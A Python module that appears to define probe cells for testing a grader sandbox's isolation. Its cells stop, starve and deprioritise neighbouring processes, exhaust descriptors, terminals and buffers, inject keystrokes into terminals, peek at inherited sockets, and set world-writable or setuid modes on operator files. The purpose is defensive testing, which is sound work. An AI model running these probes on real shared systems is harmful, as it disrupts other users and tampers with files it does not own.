"""Attacks on what sandboxes share: each a cell of the student's own, several in one submission.

A cell calls `opened` where its way is open. Whether or not, the submission earns what its two honest answers deserve.
"""

from __future__ import annotations

GROUP = "neighbours"
# Cells of one submission, before all others.
TOOLS = """
import array, ctypes, os, resource, select, signal, socket, struct, subprocess, threading, time
libc = ctypes.CDLL(None, use_errno=True)
def opened(name, *what):
    print('still' + ' open:', name, *what)
def call(name, number, *arguments):
    if libc.syscall(number, *arguments) >= 0: opened(name)
def tried(name, action, *errors):
    try: action()
    except (OSError, ValueError, *errors): return
    opened(name)
def others():
    return [int(name) for name in os.listdir('/proc') if name.isdigit() and int(name) != os.getpid()]
def crowd(count, action):
    for _ in range(count):
        if os.fork() == 0:
            try: action()
            finally: os._exit(0)
inherited = {}
for name in os.listdir('/proc/self/fd'):
    try: inherited[int(name)] = os.readlink('/proc/self/fd/' + name)
    except OSError: pass
"""

# Numbers of system calls on x86-64; elsewhere they are other calls, which are refused or harmless.
PRIORITIES = {
    "limit on processor time": "for pid in others(): call('prlimit', 302, pid, 0, (ctypes.c_ulong * 2)(1, 1), None)",
    "limit on files": "for pid in others(): tried('files', lambda: resource.prlimit(pid, resource.RLIMIT_NOFILE, (3, 3)))",
    "core of others": "for pid in others(): tried('core', lambda: os.sched_setaffinity(pid, {0}))",
    "core of its own": "tried('own core', lambda: os.sched_setaffinity(0, range(os.cpu_count())))",
    "idle class": "for pid in others(): tried('idle', lambda: os.sched_setscheduler(pid, 5, os.sched_param(0)))",
    "real time": "tried('real time', lambda: os.sched_setscheduler(0, os.SCHED_FIFO, os.sched_param(50)))",
    "attributes": "for pid in others(): call('attributes', 314, pid, struct.pack('=IIQiIQQQ', 48, 5, 0, 0, 0, 0, 0, 0), 0)",
    "nice": "for pid in others(): tried('nice', lambda: os.setpriority(os.PRIO_PROCESS, pid, 19))",
    "nice of a group": "tried('group', lambda: os.setpriority(os.PRIO_PGRP, 0, 19))",
    "nice of a user": "tried('user', lambda: os.setpriority(os.PRIO_USER, 0, 19))",
    "faster": "tried('faster', lambda: os.setpriority(os.PRIO_PROCESS, 0, -5))",
    "disk": "for which, who in ((1, 1), (2, 0), (3, 0)): call('disk', 251, which, who, 3 << 13)",
    "pages": "for pid in others(): call('pages', 256, pid, 8, ctypes.byref(ctypes.c_ulong(1)), ctypes.byref(ctypes.c_ulong(1)))",
    "single pages": "for pid in others(): call('single pages', 279, pid, 0, None, None, None, 0)",
}
DESCRIPTORS = {
    "in flight": (
        "a, b = socket.socketpair(); many = array.array('i', [a.fileno()] * 200)\n"
        "tried('in flight', lambda: a.sendmsg([b'x'], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, many)]))"
    ),
    "in flight by many": (
        "crowd(40, lambda: [tried('in flight', lambda: socket.send_fds(socket.socketpair()[0], [b'x'], [0] * 250)) for _ in range(9)])"
    ),
    "several messages at once": "call('sendmmsg', 307, socket.socketpair()[0].fileno(), ctypes.create_string_buffer(64), 1, 0)",
    "large buffers": (
        "a, b = socket.socketpair(); a.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 4 << 20)\n"
        "if a.getsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF) > 1 << 18: opened('large buffers')"
    ),
    "queues that it inherited": (
        "for number in (n for n, name in inherited.items() if 'eventpoll' in name):\n"
        "    queue = select.epoll.fromfd(os.dup(number))\n    for n in range(64):\n"
        "        try: queue.unregister(n)\n        except (OSError, ValueError): pass"
    ),
    "bytes of a neighbour": (
        "for number, name in inherited.items():\n    if name.startswith('socket') and number > 2:\n"
        "        try: data = socket.socket(fileno=os.dup(number)).recv(9, socket.MSG_DONTWAIT | socket.MSG_PEEK)\n"
        "        except OSError: continue\n        if data: opened('bytes', data)"
    ),
    "all terminals": (
        "held = []\ntry:\n    while len(held) < 400: held.append(os.open('/dev/ptmx', os.O_RDWR | os.O_NOCTTY))\n"
        "except OSError: pass\nif len(held) > 16: opened('terminals', len(held))"
    ),
    "all terminals by many": (
        "def hold():\n    try:\n        while True: os.open('/dev/ptmx', os.O_RDWR | os.O_NOCTTY)\n    except OSError: time.sleep(2)\n"
        "crowd(20, hold)"
    ),
    "a neighbour's terminal": (
        "for n in range(40):\n    if os.path.exists(f'/dev/pts/{n}') and n >= 16: opened('terminal', n)"
    ),
    "typing into a terminal": "import fcntl; tried('typing', lambda: [fcntl.ioctl(n, 0x5412, b'x') for n in range(3)])",
    "a neighbour's socket": (
        "for n in range(60000, 60300): tried('socket', lambda: socket.socket(socket.AF_UNIX).connect(f'\\0attention-grader-user-{n}'))"
    ),
}
SHARED = {
    "mounts": (
        "lines = {tuple(line.split()[4:6]) for line in open('/proc/self/mountinfo')}\nfor where, rights in sorted(lines):\n"
        "    if 'rw' in rights.split(',') and os.path.isdir(where) and not where.startswith(('/proc', '/dev/pts')):\n"
        "        found = [n for n in os.listdir(where) if n.startswith('planted-')]\n        if found: opened('mount', where)\n"
        "        try: open(where + '/planted-' + str(time.time()), 'w').close()\n        except OSError: pass\n"
        "for where in ('.', '/tmp', '/dev/shm'): [os.unlink(f'{where}/{n}') for n in os.listdir(where) if n.startswith('planted-')]"
    ),
    "keys": "call('keys', 248, b'user', b'planted', b'x', 1, -4)",
    "message queue": "call('message queue', 240, b'planted', 0o102, 0o600, None)",
    "semaphores": "call('semaphores', 64, 0x1234, 1, 0o1600)",
    "shared memory": "call('shared memory', 29, 0x1234, 4096, 0o1600)",
    "pending signals": (
        "signal.pthread_sigmask(signal.SIG_BLOCK, [40])\n"
        "sent = 0\nwhile sent < 5000 and libc.sigqueue(os.getpid(), 40, None) == 0: sent += 1\n"
        "if sent > 1024: opened('signals', sent)"
    ),
    "watches": "held = [libc.inotify_init() for _ in range(200)]; [os.close(n) for n in held if n >= 0]",
    "pipes": "held = []\ntry:\n    while True: held.append(os.pipe())\nexcept OSError: pass\n[os.close(n) for pair in held for n in pair]",
    "locks": "import fcntl; held = [open('/dev/null')]; tried('lease', lambda: fcntl.fcntl(held[0], fcntl.F_SETLEASE, fcntl.F_WRLCK))",
    "a descriptor of init": "call('descriptor', 438, os.pidfd_open(1), 0, 0)",
    "a signal to all": "[os.kill(pid, signal.SIGSTOP) for pid in others() if pid not in (1, os.getppid())]",
    "last to be killed": "tried('out of memory', lambda: open('/proc/self/oom_score_adj', 'w').write('-1000'))",
}
RESOURCES = {
    "buffers of sockets": (
        "def fill():\n    held = []\n    for _ in range(240):\n        for one in (pair := socket.socketpair()):\n"
        "            one.setblocking(False); held.append(pair)\n            try:\n                while True: one.send(bytes(1 << 16))\n"
        "            except OSError: pass\n    time.sleep(9)\ncrowd(14, fill); time.sleep(9)"
    ),
    "busy forks": (
        "def spin():\n    end = time.time() + 1\n    while time.time() < end: pass\ncrowd(20, spin); time.sleep(1)"
    ),
    "busy threads": (
        "def spin():\n    end = time.time() + 1\n    while time.time() < end: pass\n"
        "for _ in range(8): threading.Thread(target=spin, daemon=True).start()"
    ),
    "maps": (
        "import mmap\nheld = []\ntry:\n    for _ in range(30000): held.append(mmap.mmap(-1, 4096))\nexcept OSError: pass"
    ),
    "timers": "ids = [ctypes.c_long() for _ in range(2000)]; [libc.timer_create(1, None, ctypes.byref(i)) for i in ids]",
    "a daemon without a trace": (
        "if os.fork() == 0:\n    os.setsid(); os.closerange(0, 256)\n    if os.fork() == 0: os.execvp('sleep', ['sleep', '31415926'])\n    os._exit(0)"
    ),
    "sleepers that ignore signals": (
        "def ignore():\n    for n in range(1, 32):\n        try: signal.signal(n, signal.SIG_IGN)\n        except OSError: pass\n    time.sleep(99)\n"
        "crowd(8, ignore)"
    ),
}
# Landlock has no rule on modes, times, attributes, leases and watches of files: in tier partial nothing else protects them.
FILES = {
    "where": (
        "import fcntl, sys, torch\nhere = os.getcwd()\nabove = [here.rsplit('/', n)[0] for n in range(1, here.count('/'))]\n"
        "files = [*above, sys.prefix, os.path.dirname(torch.__file__), torch.__file__, os.path.realpath(sys.executable)]\n"
        "def state(path): one = os.stat(path); return one.st_mode, one.st_mtime_ns, one.st_uid, one.st_gid\n"
        "def changes(name, action):\n    for path in files:\n        before = state(path)\n"
        "        try: action(path)\n        except OSError: pass\n        if state(path) != before: opened(name, path)"
    ),
    "modes": "changes('modes', lambda path: os.chmod(path, 0o777))",
    "modes by descriptor": "changes('fchmod', lambda path: os.chmod(os.open(path, os.O_RDONLY), 0o777))",
    "modes of a link": "changes('link', lambda path: os.chmod(f'/proc/self/fd/{os.open(path, os.O_PATH)}', 0o777))",
    "modes by the newest call": "changes('fchmodat2', lambda path: libc.syscall(452, -100, path.encode(), 0o777, 0))",
    "set-user-ID on what exists": "changes('set-user-ID', lambda path: os.chmod(path, 0o6755))",
    "owner": "changes('owner', lambda path: os.chown(path, -1, os.getgid()))",
    "times": "changes('times', lambda path: os.utime(path, (1, 1)))",
    "times by the old call": "changes('utimes', lambda path: libc.utimes(path.encode(), None))",
    "attributes of files": "for path in files: tried('attribute', lambda: os.setxattr(path, 'user.planted', b'x'))",
    "access lists": (
        "acl = struct.pack('<IHHIHHIHHI', 2, 1, 7, 2**32 - 1, 4, 7, 2**32 - 1, 32, 7, 2**32 - 1)\n"
        "for path in files: tried('access list', lambda: os.setxattr(path, 'system.posix_acl_access', acl))"
    ),
    "lease for reading": "tried('lease', lambda: fcntl.fcntl(open(torch.__file__), fcntl.F_SETLEASE, fcntl.F_RDLCK))",
    "lease by number": "call('lease', 72, os.open(torch.__file__, os.O_RDONLY), (1 << 32) + 1024, 1)",
    "notes of folders": "tried('note', lambda: fcntl.fcntl(os.open(os.path.dirname(torch.__file__), 0), fcntl.F_NOTIFY, 1 << 31))",
    "watches of folders": "if libc.inotify_init() >= 0: opened('watch')",
    "watches by the newer call": "call('watch', 294, 0)",
    "owner of signals": "for pid in others(): tried('signals', lambda: fcntl.fcntl(socket.socketpair()[0], fcntl.F_SETOWN, pid))",
    "owner of signals by number": "a = socket.socketpair()[0]\nfor pid in others(): call('signals', 16, a.fileno(), 0x8901, ctypes.byref(ctypes.c_int(pid)))",
    "contexts of asynchronous files": "call('contexts', 206, 1000, ctypes.byref(ctypes.c_ulong(0)))",
    "a set-user-ID program": (
        "os.close(os.open('program', os.O_CREAT | os.O_WRONLY, 0o6755))\n"
        "if os.path.exists('program') and os.stat('program').st_mode & 0o6000: opened('program')"
    ),
    "a set-user-ID program by the oldest call": (
        "libc.creat(b'other', 0o4755)\nif os.path.exists('other') and os.stat('other').st_mode & 0o6000: opened('creat')"
    ),
    "a file without a name": "tried('nameless', lambda: os.open('.', os.O_TMPFILE | os.O_RDWR, 0o4755))",
    "sockets of other families": (
        "for family in (2, 10, 16, 30, 40):\n"
        "    if libc.syscall(53, family, 1, 0, (ctypes.c_int * 2)()) >= 0 or ctypes.get_errno() not in (1, 38): opened('family', family)"
    ),
    "attributes of files that cannot be opened": (
        "call('attribute', 191, b'/etc/shadow', b'user.origin', ctypes.create_string_buffer(60), 60)\n"
        "if ctypes.get_errno() == 61: print('no such attribute')"
    ),
    "space in no time": (
        "big = os.open('big', os.O_CREAT | os.O_RDWR)\nfor n in range(3): libc.syscall(285, big, 0, n << 30, 1 << 30)\n"
        "if os.stat('big').st_blocks > 4 << 21: opened('space')\nos.close(big); os.unlink('big')"
    ),
}
# Resources run one submission each, where what they take is to come together.
BUNDLES = {
    "priorities of others": PRIORITIES,
    "descriptors and terminals": DESCRIPTORS,
    "objects of the kernel": SHARED,
    "files of the operator": FILES,
    "what is not counted": RESOURCES,
}
OPEN = "still open:"


def cells(bundle: str) -> list[str]:
    """Return the sources of a submission's own cells."""
    return [TOOLS, *BUNDLES[bundle].values()]
